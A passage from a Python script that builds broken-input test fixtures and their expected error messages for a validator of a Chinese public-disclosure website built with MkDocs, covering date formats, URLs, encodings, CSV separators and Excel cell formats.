d('yaml-three-dots-line-ends-the-document', {C: t}, [(C, 4, 'yaml-document-end')])
# dates as a sheet shows them with a time, or a time alone
t = rep(reports, 'XZ01,2026-04,2026-05-03,否', 'XZ01,2026-04,2026/5/3 9:30,否')
t = rep(t, 'ZF01,2026-04,2026-05-04,是', 'ZF01,2026-04,15:30,是')
d('report-date-with-time-and-time-alone', {R: t}, [(R, 2, 'date-with-time'), (R, 3, 'time-not-date')])
t = rep(reports, 'XZ01,2026-04,', 'XZ01,2026.1,')
d('report-period-2026-dot-1', {R: t}, [(R, 2, 'period-dot-one')])
# the site's address: a base with a query is no base; one without its final / gets it
SY = 'site_config/site.yml'
t = rep(site, 'url: https://zhuanxiang.example.gov.cn/', 'url: https://zhuanxiang.example.gov.cn/?from=1')
d('site-url-with-a-query', {SY: t}, [(SY, 10, 'site-url-not-a-base')])
t = rep(site, 'url: https://zhuanxiang.example.gov.cn/', 'url: https://zhuanxiang.example.gov.cn')
d('site-url-without-final-slash', {SY: t}, [(SY, 10, 'site-url-slash-added')])
# a link to a place the page does not have
d('notice-link-to-a-missing-anchor', {N: nb('[见下文](#no-such-place)')}, [(N, 24, 'broken-anchor')])
# a YAML file in neither UTF-8 nor GB18030: said at the line of the first unreadable byte
d('case-yaml-in-neither-encoding', {C: case.encode('utf-8').replace(b'source: ', b'source: \x80\xff', 1)}, [(C, 7, 'file-encoding-text')])

# a table saved with another separator is not read at all, said at its header
t = rep(ledger, ',deadline,', ',整改时间,')
d('ledger-header-near-a-required-column', {L: t}, [(L, 1, 'csv-header-near-required')])
d('warnings-separated-by-semicolons', {W: warn.replace(',', ';')}, [(W, 1, 'csv-semicolon')])
d('warnings-separated-by-chinese-commas', {W: warn.replace(',', '，')}, [(W, 1, 'csv-separator')])
# a page staff write where the generator writes one, or among the records' pages
d('content-page-at-a-units-address', {'content/units/XZ01/index.md': '# 东城镇\n'}, [('content/units/XZ01/index.md', 1, 'content-path-taken')])
d('content-page-among-the-cases', {'content/cases/2026-999.md': '# 关于东城镇办事员张某的处理决定\n'}, [('content/cases/2026-999.md', 1, 'content-in-generated-folder')])

# the engine's settings unreadable: the build would stop; its YAML mistakes are said at
# their line as a staff file's are, a setting the engine refuses at the file
MK = open(REPO / 'mkdocs.yml').read()
t = rep(MK, '  - sane_lists\n', '  - [sane_lists\n')
d('engine-config-unclosed-bracket', {'mkdocs.yml': t}, [('mkdocs.yml', line_of(t, '  - [sane_lists'), 'yaml-unclosed-bracket')])
t = rep(MK, 'site_name: 专项治理公开平台', 'site_name: [专项治理公开平台]')
d('engine-config-site-name-a-list', {'mkdocs.yml': t}, [('mkdocs.yml', 1, 'engine-config-invalid')])

# a number under a format this reader cannot show as Excel shows it (0.00E+00): the row
# is not read; once, and on two rows said once for both
T = 'data/totals.xlsx'
def _rows(n):
    return [['period', 'measure', 'count', 'source', 'note']] + [[f'{2026 - i}年', '追责问责人数', 3, '演示县纪委通报', None] for i in range(n)]
def _scientific(*refs):
    return lambda book: [setattr(book.active[r], 'number_format', '0.00E+00') for r in refs]
d('xlsx-count-under-a-scientific-format', {T: workbook({'汇总数': _rows(2)}, _scientific('C3'))},
  [(T, 3, 'xlsx-number-format')], remove=['data/totals.csv'])
d('xlsx-counts-under-a-scientific-format-on-two-rows', {T: workbook({'汇总数': _rows(3)}, _scientific('C2', 'C4'))},
  [(T, 2, 'xlsx-number-format-rows')], remove=['data/totals.csv'])
# a row struck through (a clerk's way of deleting it) is not read, and said so
def _struck(book):
    from openpyxl.styles import Font
    for cell in book.active[3]:
        cell.font = Font(strike=True)
d('xlsx-struck-through-row', {T: workbook({'汇总数': _rows(2)}, _struck)}, [(T, 3, 'xlsx-struck-row')], remove=['data/totals.csv'])

import shutil
# Only the folders written here are replaced: a fixture made by hand (a workbook saved
# by Excel, say) stays as it is.
for name, (files, expected, remove) in D.items():
    folder = base / name
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    for rel, content in files.items():
        p = folder / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content if isinstance(content, bytes) else content.encode('utf-8'))
    if remove:
        (folder / 'remove.txt').write_text('\n'.join(remove) + '\n')
    (folder / 'expected.txt').write_text(''.join(f'{p}:{l}: {c}\n' for p, l, c in expected), encoding='utf-8')
print(len(D))
